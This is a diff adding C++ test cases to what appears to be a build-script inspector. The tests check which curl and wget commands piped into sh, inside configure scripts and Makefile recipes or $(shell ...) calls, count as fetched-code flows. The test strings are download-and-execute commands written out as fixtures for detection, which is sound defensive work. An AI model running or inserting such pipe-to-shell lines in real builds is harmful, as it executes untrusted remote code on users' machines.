@@ -124,3 +124,33 @@ TEST_CASE("fetched code: the quick look of a comparison asks for such scripts to
   CHECK(suspicion_of("curl-config --libs\nAC_CHECK_PROG([GET], [wget], [wget])\n# see curl --help\n") ==
         Suspicion::none);
 }
+
+TEST_CASE("fetched code: an option's argument is no address", "[inspect][script]") {
+  for (const std::string_view text : {"curl -s -H 'Content-Type: text/plain' -XPUT localhost:9200/x -d '{}' | sh\n",
+                                      "curl -sSLo - -e https://elsewhere.net/ localhost:9200/x | sh\n",
+                                      "wget -q --header 'Accept: */*' -O - localhost:9200/x | sh\n"}) {
+    INFO(text);
+    const auto analysis = analysis_of("configure", text);
+    REQUIRE(analysis.flows.size() == 1);
+    CHECK(analysis.findings[0].message.find("fetches localhost:9200/x") != std::string::npos);
+  }
+  CHECK(analysis_of("tests/retry.sh",
+                    "curl -s -H 'Content-Type: text/plain' localhost:9200/x -d '{}' | python -mjson.tool\n")
+            .flows.empty());
+}
+
+TEST_CASE("fetched code: what make prints is no command, but what it runs for it is", "[inspect][script]") {
+  for (const std::string_view text :
+       {"lint:\n\t$(warning not found, run: curl -sfL https://example.org/x | sh)\n",
+        "$(error no lint: run; curl -sfL https://example.org/x | sh)\n",
+        "lint:\n\t$(info run $(GET) or curl -sfL https://example.org/x | sh)@echo done\n"}) {
+    INFO(text);
+    CHECK(analysis_of("Makefile", text).flows.empty());
+  }
+  for (const std::string_view text : {"lint:\n\t$(warning $(shell curl -sfL https://example.org/x | sh))\n",
+                                      "$(info $(if x,$(shell curl -sfL https://example.org/x | sh)))\n",
+                                      "lint:\n\t$(info that is it)curl -sfL https://example.org/x | sh\n"}) {
+    INFO(text);
+    CHECK(analysis_of("Makefile", text).flows.size() == 1);
+  }
+}
